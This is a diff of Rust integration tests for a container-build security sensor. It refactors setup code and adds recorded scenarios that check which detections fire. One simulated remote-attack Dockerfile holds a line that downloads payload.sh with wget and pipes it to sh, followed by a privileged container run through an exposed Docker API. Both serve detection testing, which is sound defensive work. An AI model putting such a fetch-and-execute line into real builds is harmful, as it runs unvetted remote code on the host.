@@ -9,8 +9,8 @@ use std::{
 
 use buildwatch_integration_tests::{
     command::{run, run_command},
-    environment::{find_binary, missing_prerequisites, Environment, BASE_IMAGE, REGISTRY},
-    runner::{run_all, Scenario},
+    environment::{Environment, BASE_IMAGE, REGISTRY},
+    runner::{dump_events, prerequisites, run_all, Scenario},
     sensor::{event::*, Sensor},
     TempConfig,
 };
@@ -29,30 +29,10 @@ struct World {
 }
 
 fn main() -> ExitCode {
-    let ci = buildwatch_integration_tests::ci();
-    let mut problems = missing_prerequisites();
-    for (binary, package) in [("podman", "podman"), ("curl", "curl")] {
-        if find_binary(binary).is_none() {
-            problems.push(format!("{binary} (Debian package {package})"));
-        }
-    }
-    let binary = std::env::var_os("BUILDWATCH_BIN").map(PathBuf::from);
-    match &binary {
-        Some(path) if path.is_file() => {}
-        Some(path) => problems.push(format!("BUILDWATCH_BIN={} does not exist", path.display())),
-        None => problems.push("BUILDWATCH_BIN (run the tests with `cargo xtask test`)".to_string()),
-    }
-    if !problems.is_empty() {
-        let message = format!("detection tests need: {}", problems.join("; "));
-        if ci {
-            eprintln!("FAIL (CI=true, nothing may be skipped): {message}");
-            return ExitCode::FAILURE;
-        }
-        println!("skipping: {message}");
-        println!("0 passed, 0 failed, 1 skipped");
-        return ExitCode::SUCCESS;
-    }
-    let binary = binary.expect("checked above");
+    let binary = match prerequisites("detection", &[("podman", "podman"), ("curl", "curl")]) {
+        Ok(binary) => binary,
+        Err(code) => return code,
+    };
     let env = Environment::start();
     let config = sensor_config(&env, &env.dir.join("sensor-state"));
     let recording = recordings_dir().join("detection-run.jsonl");
@@ -106,8 +86,12 @@ fn main() -> ExitCode {
                 run: ledger_survives_a_restart,
             },
             Scenario {
-                name: "small_recording_replays_to_its_detections",
-                run: small_recording_replays_to_its_detections,
+                name: "small_recording_of_a_remote_attack",
+                run: small_recording_of_a_remote_attack,
+            },
+            Scenario {
+                name: "small_recording_of_local_builds",
+                run: small_recording_of_local_builds,
             },
             // Last: stops the main sensor.
             Scenario {
@@ -116,17 +100,10 @@ fn main() -> ExitCode {
             },
         ],
     );
-    let dump = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("detection-events.jsonl");
-    let lines: Vec<String> = world
-        .sensor
-        .all(0, |_| true)
-        .iter()
-        .map(Value::to_string)
-        .collect();
-    match std::fs::write(&dump, lines.join("\n") + "\n") {
-        Ok(()) => println!("the sensor's {} events are in {}", lines.len(), dump.display()),
-        Err(err) => println!("could not write {}: {err}", dump.display()),
-    }
+    dump_events(
+        &world.sensor,
+        &PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("detection-events.jsonl"),
+    );
     drop(world);
     if passed {
         ExitCode::SUCCESS
@@ -709,16 +686,16 @@ fn replay_equals_live(world: &World) {
     );
 }
 
-/// A small recording (only the docker socket, the remote build and a privileged run), the kind
-/// shipped in sensor/testdata/recordings, replays to the detections it was recorded with.
-fn small_recording_replays_to_its_detections(world: &World) {
+/// Records a few actions with a sensor of their own (only the test daemon's socket and port, so
+/// the file stays small: the kind shipped in sensor/testdata/recordings), then checks the replay
+/// gives the live run's detections, which must include `rules`.
+fn record(world: &World, file: &str, rules: &[&str], actions: impl FnOnce(&Environment)) {
     let env = &world.env;
-    let nonce = &env.nonce;
-    let path = recordings_dir().join("remote-build-and-privileged-run.jsonl");
+    let path = recordings_dir().join(file);
     let config = TempConfig::new(
         "recorded",
         &format!(
-            "[watch]\nunix_sockets = [\"{}\"]\ntcp_ports = [2375]\ndaemons = [\"dockerd\"]\n",
+            "[watch]\nunix_sockets = [\"{}\"]\ntcp_ports = [2375]\ndaemons = [\"dockerd\", \"podman\"]\n",
             env.socket.display()
         ),
     );
@@ -728,42 +705,91 @@ fn small_recording_replays_to_its_detections(world: &World) {
         &[OsStr::new("--record"), path.as_os_str()],
         &[],
     );
-    let context = env.context(
-        "recorded",
-        &format!("FROM {BASE_IMAGE}\nRUN wget -q -T 1 -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
-    );
-    let tag = format!("bwdet/recorded:{nonce}");
-    run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
-    let id =
-        run_command(
-            env.remote_docker()
-                .args(["create", "--privileged", "--network", "none", &tag, "true"]),
-        );
-    run_command(env.docker().args(["rm", id.trim()]));
-    recorder.wait_for(0, TIMEOUT, "the run detection", |e| {
-        kind(e) == "detection" && e["detection"]["rule"] == "run_of_unpulled_image"
+    actions(env);
+    let last = rules.last().copied().unwrap_or_default();
+    recorder.wait_for(0, TIMEOUT, &format!("the {last} detection"), |e| {
+        kind(e) == "detection" && e["detection"]["rule"] == last
     });
     let status = recorder
         .terminate(Duration::from_secs(15))
         .expect("the recording sensor did not stop");
     assert!(status.success());
     let live = recorder.all(0, |e| kind(e) == "detection");
-    let rules: BTreeSet<String> = live
+    let seen: BTreeSet<&str> = live
         .iter()
-        .map(|d| d["detection"]["rule"].as_str().unwrap_or_default().to_string())
+        .filter_map(|d| d["detection"]["rule"].as_str())
         .collect();
-    for rule in [
+    for rule in rules {
+        assert!(
+            seen.contains(rule),
+            "{rule} missing from the recorded run: {seen:?}"
+        );
+    }
+    assert_eq!(replay(&world.binary, &path, false), live);
+}
+
+fn small_recording_of_a_remote_attack(world: &World) {
+    let nonce = world.env.nonce.clone();
+    let rules = [
         "api_exposed",
         "build_without_pull",
         "build_egress",
         "run_of_unpulled_image",
-    ] {
-        assert!(
-            rules.contains(rule),
-            "{rule} missing from the recorded run: {rules:?}"
+    ];
+    record(world, "remote-build-and-privileged-run.jsonl", &rules, |env| {
+        let context = env.context(
+            "recorded",
+            &format!("FROM {BASE_IMAGE}\nRUN wget -q -T 1 -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
         );
-    }
-    assert_eq!(replay(&world.binary, &path, false), live);
+        let tag = format!("bwdet/recorded:{nonce}");
+        run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
+        let id = run_command(env.remote_docker().args([
+            "create",
+            "--privileged",
+            "--network",
+            "none",
+            &tag,
+            "true",
+        ]));
+        run_command(env.docker().args(["rm", id.trim()]));
+    });
+}
+
+fn small_recording_of_local_builds(world: &World) {
+    let nonce = world.env.nonce.clone();
+    let rules = ["build_without_pull", "image_side_loaded"];
+    record(world, "local-builds-and-load.jsonl", &rules, |env| {
+        // The CI pattern (not flagged), a BuildKit build (flagged), a load (side-loaded).
+        let context = env.context(
+            "recorded-local",
+            &format!("FROM {BASE_IMAGE}\nLABEL local={nonce}\n"),
+        );
+        run_command(env.docker().args(["pull", BASE_IMAGE]));
+        let ci_tag = format!("{BASE_IMAGE}-ci-{nonce}");
+        run_command(
+            env.docker()
+                .args(["build", "--cache-from", BASE_IMAGE, "-t", &ci_tag])
+                .arg(&context),
+        );
+        run_command(
+            env.docker()
+                .env("DOCKER_BUILDKIT", "1")
+                .args([
+                    "build",
+                    "--network",
+                    "none",
+                    "-t",
+                    &format!("bwdet/local:{nonce}"),
+                ])
+                .arg(&context),
+        );
+        let archive = env.dir.join("recorded-load.tar");
+        run_command(
+            env.docker()
+                .args(["save", "-o", &archive.to_string_lossy(), BASE_IMAGE]),
+        );
+        run_command(env.docker().args(["load", "-i", &archive.to_string_lossy()]));
+    });
 }
 
 fn time_ns(event: &Value) -> i128 {
